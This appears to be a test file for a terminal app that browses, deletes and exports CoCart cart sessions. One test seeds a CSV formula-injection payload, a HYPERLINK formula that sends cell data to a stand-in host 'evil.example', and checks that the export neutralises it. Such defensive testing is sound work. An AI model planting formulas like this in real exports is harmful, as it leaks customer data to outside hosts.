import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createClient } from '@cocart-sessions/client';
import { parse } from 'csv-parse/sync';
import { render } from 'ink-testing-library';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { inThreadListFeed } from '../src/list-feed/in-thread-feed.js';
import type { PlainClientOptions } from '../src/list-feed/protocol.js';
import { App } from '../src/ui/app.js';
import { buildCli } from './helpers/build.js';
import { KEYS, press, waitForFrame, waitForText } from './helpers/ink.js';
import { ADMIN, putSessions, startTestServer, type TestServer } from './helpers/server.js';

let server: TestServer;
let mounted: Array<{ unmount(): void }> = [];

beforeAll(async () => {
  // The App's list worker runs the built script.
  buildCli();
  server = await startTestServer();
}, 120_000);
afterAll(async () => {
  await server?.stop();
});
afterEach(() => {
  for (const m of mounted) m.unmount();
  mounted = [];
});

const SIZE = { columns: 80, rows: 24 };

function mount(
  opts: { readOnly?: boolean; url?: string; password?: string; watch?: number; exportDir?: string } = {},
) {
  const url = opts.url ?? server.url;
  const options: PlainClientOptions = {
    url,
    auth: { username: ADMIN.login, password: opts.password ?? ADMIN.password },
    retry: 0,
    timeout: 5000,
  };
  const client = createClient(options);
  const app = render(
    <App
      source={client.sessions}
      client={options}
      url={url}
      readOnly={opts.readOnly}
      size={SIZE}
      watch={opts.watch}
      exportDir={opts.exportDir}
    />,
  );
  mounted.push(app);
  return { ...app, client };
}

describe('App against the real server', () => {
  it('shows the sessions table with a status bar at 80x24', async () => {
    const { lastFrame } = mount();
    // Every cart of the test store is the seed cart (6 items, £207.00) under another key.
    const f = await waitForFrame(lastFrame, (x) => x.split('£207.00').length === 4);
    const lines = f.split('\n');
    expect(lines).toHaveLength(24);
    expect(lines[0]).toBe('[All 3] · Active 2 · Expiring 1 · Expired 0 · sort: id ↑');
    // The seed's long name and email share what is left once the key is cut and SOURCE and CREATED go.
    expect(lines[1]).toBe('  KEY      CUSTOMER           EMAIL              ITEMS   VALUE EXPIRES STATUS');
    expect(lines[2]).toBe('› 1        Sebastien Dumont … mailme@sebastiend…     6 £207.00 in 4d   active');
    expect(lines[3]).toBe('  afa399e… John Snow          —                      6 £207.00 in 1h   expiring');
    expect(lines[22]).toMatch(new RegExp(`${server.url} · 3 sessions · refreshed \\d\\d:\\d\\d:\\d\\d`));
    expect(lines[23]).toContain('Enter open');
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(80);
  });

  it('moves with j/k and arrows, g/G, and filters as you type', async () => {
    const { lastFrame, stdin } = mount();
    await waitForText(lastFrame, 'Clark Kent');
    const cursorLine = () => (lastFrame() ?? '').split('\n').find((l) => l.startsWith('›')) ?? '';
    await press(stdin, 'j');
    expect(cursorLine()).toContain('John Snow');
    await press(stdin, KEYS.down);
    expect(cursorLine()).toContain('Clark Kent');
    await press(stdin, 'k', KEYS.up);
    expect(cursorLine()).toContain('Sebastie');
    await press(stdin, 'G');
    expect(cursorLine()).toContain('Clark Kent');
    await press(stdin, 'g');
    expect(cursorLine()).toContain('Sebastie');
    await press(stdin, KEYS.pageDown);
    expect(cursorLine()).toContain('Clark Kent');
    await press(stdin, KEYS.pageUp);
    expect(cursorLine()).toContain('Sebastie');
    await press(stdin, '/', 'c', 'l', 'a');
    // Filtered by the list worker: the rows follow the title.
    let f = await waitForFrame(lastFrame, (x) => x.includes('/cla▏') && x.includes('1 of 3 sessions'));
    expect(cursorLine()).toContain('Clark Kent');
    await press(stdin, KEYS.backspace, KEYS.backspace, KEYS.backspace, 'z', 'z', 'z');
    f = await waitForText(lastFrame, 'No sessions match "zzz".');
    await press(stdin, KEYS.escape);
    f = await waitForText(lastFrame, '3 sessions');
    expect(f.split('\n')[0]).toBe('[All 3] · Active 2 · Expiring 1 · Expired 0 · sort: id ↑');
  });

  it('sorts with s and reverses with S', async () => {
    const { lastFrame, stdin } = mount();
    await waitForText(lastFrame, 'Clark Kent');
    const names = () =>
      (lastFrame() ?? '')
        .split('\n')
        .slice(2, 5)
        .map((l) => /(Clark|John|Sebastien)/.exec(l)?.[1] ?? l);
    await press(stdin, 's');
    await waitForText(lastFrame, 'sort: created ↑');
    // Sorted by the list worker: the rows follow the title.
    await waitForFrame(lastFrame, () => names()[0] === 'John');
    await press(stdin, 's', 's');
    await waitForText(lastFrame, 'sort: customer ↑');
    await waitForFrame(lastFrame, () => names().join() === 'Clark,John,Sebastien');
    await press(stdin, 'S');
    await waitForText(lastFrame, 'sort: customer ↓');
    await waitForFrame(lastFrame, () => names()[0] === 'Sebastien');
  });

  it('opens the seed cart with Enter, items with i, help with ?, and goes back with Esc', async () => {
    const { lastFrame, stdin } = mount();
    await waitForText(lastFrame, 'Clark Kent');
    await press(stdin, KEYS.enter);
    let f = await waitForText(lastFrame, 'Cart 1 · 6 items · GBP');
    expect(f).toContain('Billing address');
    expect(f).toMatch(/1 T-shirt with logo\s+£12\.00\s+£12\.00/);
    await press(stdin, 'G');
    f = await waitForFrame(lastFrame, (x) => /Total\s+£207\.00/.test(x));
    expect(f).toMatch(/Subtotal\s+£192\.00/);
    expect(f).toMatch(/testcoupon \(Coupon: testcoupon\)\s+-£5\.00/);
    expect(f).toMatch(/Flat rate to 1, 12345 TOWN\s+£20\.00/);
    expect(f.split('\n')).toHaveLength(24);
    await press(stdin, 'i');
    f = await waitForText(lastFrame, 'Items of cart 1 · 4 lines · 4 units');
    expect(f).toMatch(/Virtual Product\s+£1\.00\s+£1\.00/);
    await press(stdin, KEYS.escape);
    await waitForText(lastFrame, 'Cart 1 · 6 items');
    await press(stdin, '?');
    f = await waitForText(lastFrame, 'Keys');
    expect(f).toContain('Delete the cart, or the marked carts (asks y/N)');
    await press(stdin, KEYS.escape);
    await waitForText(lastFrame, 'Cart 1 · 6 items');
    await press(stdin, KEYS.escape);
    await waitForText(lastFrame, 'KEY');
  });

  it('i on the open cart reuses it (no request), and r asks the server whether the list changed', async () => {
    const seen: Array<{ path: string; status: number }> = [];
    const client = createClient({
      url: server.url,
      auth: { username: ADMIN.login, password: ADMIN.password },
      retry: 0,
      hooks: {
        afterResponse: [
          ({ request, response }) =>
            void seen.push({
              path: new URL(request.url).pathname.replace(/^.*cocart\/v2/, ''),
              status: response.status,
            }),
        ],
      },
    });
    // The list is loaded in this thread, where the hook above sees its requests (the worker's client
    // is its own).
    const app = render(
      <App
        source={client.sessions}
        listFeed={inThreadListFeed(client.sessions)}
        url={server.url}
        size={SIZE}
      />,
    );
    mounted.push(app);
    const { lastFrame, stdin } = app;
    await waitForText(lastFrame, 'Clark Kent');
    await press(stdin, KEYS.enter);
    await waitForText(lastFrame, 'Cart 1 · 6 items · GBP');
    const before = seen.length;
    await press(stdin, 'i');
    const f = await waitForText(lastFrame, 'Items of cart 1 · 4 lines · 4 units');
    expect(f).toMatch(/Virtual Product\s+£1\.00\s+£1\.00/);
    expect(seen.slice(before)).toEqual([]);
    await press(stdin, KEYS.escape);
    await press(stdin, KEYS.escape);
    await waitForText(lastFrame, 'KEY');
    // A store this small arrives with its first page; the first refresh fetches the list and its tag.
    // `r` also asks again for the carts on screen (ITEMS, VALUE), each with its tag.
    const carts = (answers: typeof seen) => answers.filter((a) => a.path.startsWith('/session/'));
    const refresh = async () => {
      const n = seen.length;
      await press(stdin, 'r');
      await waitForFrame(
        lastFrame,
        (x) => carts(seen.slice(n)).length === 3 && seen.length > n + 3 && !x.includes('refreshing'),
      );
      return seen.slice(n);
    };
    let answers = await refresh();
    expect(answers.filter((a) => a.path === '/sessions')).toEqual([{ path: '/sessions', status: 200 }]);
    expect(carts(answers).map((a) => a.status)).toEqual([304, 304, 304]);
    // Nothing changed since: one conditional request, answered 304 without a body.
    answers = await refresh();
    expect(answers.filter((a) => a.path === '/sessions')).toEqual([{ path: '/sessions', status: 304 }]);
    expect(carts(answers).map((a) => a.status)).toEqual([304, 304, 304]);
    expect(lastFrame()).toContain('Clark Kent');
  });

  it('redraws relative times and statuses on its own as the clock moves, without a refresh', async () => {
    let clock = Date.now();
    const options = { url: server.url, auth: { username: ADMIN.login, password: ADMIN.password } };
    const app = render(
      <App
        source={createClient(options).sessions}
        client={options}
        url={server.url}
        size={SIZE}
        now={() => clock}
        tickMs={50}
      />,
    );
    mounted.push(app);
    const { lastFrame } = app;
    // John Snow's cart expires in 2 hours (test/helpers/server.ts).
    await waitForFrame(lastFrame, (f) => /John Snow\s+—.* in 1h\s+expiring/.test(f));
    clock += 3 * 3600 * 1000;
    await waitForFrame(lastFrame, (f) => /John Snow\s+—.* 1h ago\s+expired/.test(f));
  });

  it('deletes after y, keeps the row after N, and reports a cart already gone', async () => {
    await putSessions(server, [
      { key: 'todelete', first: 'Dee', last: 'Lete' },
      { key: 'gonealready', first: 'Gone' },
    ]);
    const { lastFrame, stdin, client } = mount();
    await waitForText(lastFrame, 'Dee Lete');
    await press(stdin, '/', 'D', 'e', 'e', KEYS.enter);
    await press(stdin, 'd');
    let f = await waitForText(lastFrame, 'Delete cart todelete (Dee Lete)? This cannot be undone. y/N');
    await press(stdin, 'n');
    f = await waitForText(lastFrame, 'Delete cancelled.');
    expect(f).toContain('Dee Lete');
    await press(stdin, 'd', 'y');
    f = await waitForText(lastFrame, 'Deleted cart todelete.');
    expect(f).not.toContain('Dee Lete');
    await expect(client.sessions.get('todelete')).rejects.toMatchObject({ status: 404 });

    await press(stdin, KEYS.escape, '/', 'G', 'o', 'n', 'e', KEYS.enter);
    await waitForText(lastFrame, 'gonealr');
    await client.sessions.delete('gonealready');
    await press(stdin, 'd', 'y');
    f = await waitForText(lastFrame, 'Cart gonealready was already gone');
    expect(f.split('\n').slice(1, 21).join('\n')).not.toContain('gonealr');
    await press(stdin, KEYS.escape);
    f = await waitForText(lastFrame, '· 3 sessions');
    await press(stdin, 'j');
    expect(f).toContain('Clark Kent');
  });

  it('hides delete under --read-only', async () => {
    const { lastFrame, stdin } = mount({ readOnly: true });
    const f = await waitForText(lastFrame, 'Clark');
    expect(f).not.toContain('d delete');
    await press(stdin, 'd');
    expect(lastFrame()).not.toContain('y/N');
  });

  it('refreshes with r and on --watch, keeping the selection on the same cart', async () => {
    const { lastFrame, stdin } = mount({ watch: 0.3 });
    await waitForText(lastFrame, 'Clark');
    await press(stdin, 'G');
    await putSessions(server, [{ key: 'aaa_new', first: 'Newcomer', createdIn: -10 }]);
    await press(stdin, 's');
    const f = await waitForText(lastFrame, 'Newcomer');
    const cursor = f.split('\n').find((l) => l.startsWith('›')) ?? '';
    expect(cursor).toContain('Clark Kent');
    // Without --watch, so that only r can bring the deletion to the screen.
    const plain = mount();
    await waitForText(plain.lastFrame, 'Newcomer');
    await server.store.sessions.deleteSession('aaa_new');
    await press(plain.stdin, 'r');
    await waitForFrame(plain.lastFrame, (x) => !x.includes('Newcomer'));
  });

  it('cycles the status view with v, shown in the header, combined with the filter', async () => {
    const { lastFrame, stdin } = mount();
    await waitForText(lastFrame, 'Clark Kent');
    const rowsShown = () =>
      (lastFrame() ?? '')
        .split('\n')
        .slice(2, 21)
        .filter((l) => /^[› ][* ]\S/.test(l));
    // The header changes at the key; the view's rows follow from the list worker.
    await press(stdin, 'v');
    let f = await waitForText(lastFrame, '2 of 3 sessions');
    expect(f.split('\n')[0]).toBe('All 3 · [Active 2] · Expiring 1 · Expired 0 · sort: id ↑');
    expect(rowsShown()).toHaveLength(2);
    expect(rowsShown().every((l) => /\sactive(\s|$)/.test(l))).toBe(true);
    await press(stdin, 'v');
    f = await waitForText(lastFrame, '1 of 3 sessions');
    expect(f.split('\n')[0]).toContain('[Expiring 1]');
    expect(rowsShown()).toHaveLength(1);
    expect(rowsShown()[0]).toContain('John Snow');
    await press(stdin, 'v');
    f = await waitForText(lastFrame, 'No sessions with this status.');
    expect(f.split('\n')[0]).toContain('[Expired 0]');
    await press(stdin, 'v', 'v', '/', 'c', 'l', 'a', 'r', 'k', KEYS.enter);
    f = await waitForFrame(
      lastFrame,
      (frame) =>
        frame.includes('All 3 · [Active 2] · Expiring 1 · Expired 0 · sort: id ↑ · filter: clark') &&
        frame.includes('1 of 3 sessions'),
    );
    expect(rowsShown()).toHaveLength(1);
    expect(rowsShown()[0]).toContain('Clark Kent');
  });

  it('exports the rows shown to a CSV file with e and says where', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cocart-export-'));
    try {
      const { lastFrame, stdin } = mount({ exportDir: dir, readOnly: true });
      await waitForText(lastFrame, 'Clark Kent');
      await press(stdin, 'v', 'e');
      const f = await waitForText(lastFrame, 'Exported 2 sessions to');
      const files = readdirSync(dir);
      expect(files).toHaveLength(1);
      expect(files[0]).toMatch(/^cocart-sessions-active-\d{8}-\d{6}\.csv$/);
      expect(f).toContain(dir);
      // Customers' names and emails: readable by the owner only.
      expect(statSync(join(dir, files[0] ?? '')).mode & 0o777).toBe(0o600);
      const text = readFileSync(join(dir, files[0] ?? ''), 'utf8');
      expect(text.startsWith('\uFEFFcart_id,cart_key,customers_name,')).toBe(true);
      const records = parse(text, { bom: true, columns: true }) as Array<Record<string, string>>;
      expect(records.map((r) => r.customers_name)).toEqual(['Sebastien Dumont Dumont', 'Clark Kent']);
      expect(records[1]?.customers_email).toBe('clark@dailyplanet.wb');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('neutralises in the exported CSV the cells a spreadsheet would run as formulas', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A2,"x")';
    const s = await startTestServer([{ key: 'evil_1', first: evil, last: '', email: '-2+3@x.example' }]);
    const dir = mkdtempSync(join(tmpdir(), 'cocart-export-'));
    try {
      const { lastFrame, stdin } = mount({ url: s.url, exportDir: dir, readOnly: true });
      await waitForText(lastFrame, 'evil_1');
      await press(stdin, 'e');
      await waitForText(lastFrame, 'Exported 1 sessions to');
      const text = readFileSync(join(dir, readdirSync(dir)[0] ?? ''), 'utf8');
      expect(text).toContain(`evil_1,"'=HYPERLINK(""https://evil.example/?""&A2,""x"")",'-2+3@x.example,`);
      const [record] = parse(text, { bom: true, columns: true }) as Array<Record<string, string>>;
      expect(record).toMatchObject({ customers_name: `'${evil}`, customers_email: "'-2+3@x.example" });
    } finally {
      rmSync(dir, { recursive: true, force: true });
      await s.stop();
    }
  });

  it('follows the mode changes inside one chunk of input: "/clark<Enter>" then d asks about Clark', async () => {
    const { lastFrame, stdin } = mount();
    await waitForText(lastFrame, 'Clark Kent');
    stdin.write('/clark\r ');
    await waitForText(lastFrame, '1 marked');
    expect(lastFrame()?.split('\n')[0]).toBe(
      '[All 3] · Active 2 · Expiring 1 · Expired 0 · sort: id ↑ · filter: clark',
    );
    await press(stdin, KEYS.escape, 'd');
    await waitForText(lastFrame, 'Delete cart 8f36f08beca94f2b51faedcb7c6864b8 (Clark Kent)?');
    stdin.write('n');
    await waitForText(lastFrame, 'Delete cancelled.');
  });

  it('hides marking under --read-only: space and a mark nothing', async () => {
    const { lastFrame, stdin } = mount({ readOnly: true });
    await waitForText(lastFrame, 'Clark Kent');
    await press(stdin, ' ', 'a');
    const f = lastFrame() ?? '';
    expect(f).not.toContain('marked');
    expect(f).not.toMatch(/^.\*/m);
    expect(f).not.toContain('Space mark');
  });

  it('shows the error screen on wrong credentials, and the list stays usable', async () => {
    const { lastFrame } = mount({ password: 'wrong' });
    const f = await waitForText(lastFrame, 'Could not load the sessions');
    expect(f).toContain('Check the credentials');
    expect(f).toContain('r to retry, q to quit');
  });

  it('shows the empty state for a store without sessions', async () => {
    const empty = await startTestServer([]);
    try {
      const { lastFrame } = mount({ url: empty.url });
      const f = await waitForText(lastFrame, 'No carts in session.');
      expect(f).toContain('0 sessions');
    } finally {
      await empty.stop();
    }
  });
});
